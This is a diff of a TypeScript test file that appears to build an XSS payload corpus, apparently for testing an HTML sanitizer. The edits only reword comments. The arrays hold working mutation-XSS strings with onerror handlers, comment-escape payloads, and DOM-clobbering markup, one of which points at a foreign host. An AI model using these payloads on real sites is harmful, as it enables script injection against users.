@@ -2,7 +2,7 @@ import { FOREIGN_HOST, RUN } from "../hook.ts";
 
 const IMG = `<img src=x onerror=${RUN}>`;
 
-/** Text that means one thing when it is read, and another when what was read is written and read again. */
+/** Mutation XSS: markup that changes its meaning when it is parsed, serialized and parsed again. */
 const MUTATIONS = [
   `<noscript><p title="</noscript>${IMG}">`,
   `<svg></p><style><a id="</style>${IMG}">`,
@@ -31,7 +31,7 @@ const MUTATIONS = [
   `<p is=x-y onclick=${RUN} slot=x>`,
 ];
 
-/** Comments, sections and declarations, whole and cut. */
+/** Comments, sections and declarations, complete and truncated. */
 const SECTIONS = [
   `<!--${IMG}-->`,
   `<!-->${IMG}-->`,
@@ -52,7 +52,7 @@ const SECTIONS = [
   `<a href="`,
 ];
 
-/** Names by which markup would stand in the way of a script's own. */
+/** DOM clobbering: names of elements that shadow a script's variables. */
 const CLOBBERING = [
   "<form id=__xss><input name=call></form>",
   "<a id=__xss href=javascript:1></a>",
@@ -67,5 +67,5 @@ const CLOBBERING = [
   `<a id=a><a id=a name=href href=//${FOREIGN_HOST}/></a>`,
 ];
 
-/** What a parser makes of markup in the wrong place. */
+/** Markup in the wrong place, which parsers move or repair. */
 export const parsers: readonly string[] = [...MUTATIONS, ...SECTIONS, ...CLOBBERING];
